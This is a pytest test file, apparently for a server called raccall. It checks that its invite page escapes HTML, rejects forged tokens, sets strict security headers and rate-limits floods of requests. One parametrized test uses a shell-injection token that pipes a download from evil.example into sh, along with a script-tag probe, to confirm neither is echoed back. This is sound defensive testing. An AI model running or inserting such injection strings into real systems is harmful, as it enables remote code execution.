"""What a browser gets: the page of an invite, which shows nothing but what this server has signed."""

from urllib.parse import quote

import httpx
import pytest

from raccall.server import request_limit
from raccall.server.app import RunningServer
from raccall.server.settings import ServerSettings

pytestmark = pytest.mark.realtime


@pytest.fixture
async def server(tmp_path):
    async with RunningServer(ServerSettings(host="127.0.0.1", port=0, data=tmp_path, room="<b>Lounge</b>")) as server:
        yield server


@pytest.fixture
async def http(server):
    async with httpx.AsyncClient(base_url=server.url, trust_env=False) as http:
        yield http


async def test_an_invite_says_what_to_run(server, http):
    link = server.invite()
    answer = await http.get(link.removeprefix(server.url))
    assert answer.status_code == 200 and f"raccall join '{link}'" in answer.text
    assert "&lt;b&gt;Lounge&lt;/b&gt;" in answer.text and "<b>" not in answer.text


@pytest.mark.parametrize("token", ["x'; curl evil.example | sh; '", "<script>alert(1)", "eyJyb29tIjoxfQ.x", "a" * 1000])
async def test_nobody_puts_a_command_or_a_script_into_our_page(http, token):
    answer = await http.get(f"/join/{quote(token, safe='')}")
    assert answer.status_code == 404 and "This invite is not from this server" in answer.text
    for word in ("raccall join", "curl", "<script", "aaaa"):
        assert word not in answer.text


async def test_the_page_runs_nothing_and_tells_nobody(server, http):
    for path in (server.invite().removeprefix(server.url), "/join/x"):
        headers = (await http.get(path)).headers
        assert headers["content-security-policy"].startswith("default-src 'none'")
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert headers["referrer-policy"] == "no-referrer" and headers["cache-control"] == "no-store"
        assert headers["x-content-type-options"] == "nosniff"


async def test_a_flood_of_requests_is_refused_and_costs_a_connection_each(tmp_path, monkeypatch):
    monkeypatch.setattr(request_limit, "BURST", 5)
    monkeypatch.setattr(request_limit, "PER_SECOND", 0.001)
    settings = ServerSettings(host="127.0.0.1", port=0, data=tmp_path / "other")
    async with RunningServer(settings) as server, httpx.AsyncClient(base_url=server.url, trust_env=False) as http:
        answers = [await http.get("/api/health") for _ in range(8)]
    assert [answer.status_code for answer in answers] == [200] * 5 + [429] * 3
    assert answers[-1].json()["code"] == "too_many_requests"
    assert answers[-1].headers["connection"] == "close" and answers[-1].headers["retry-after"] == "1"
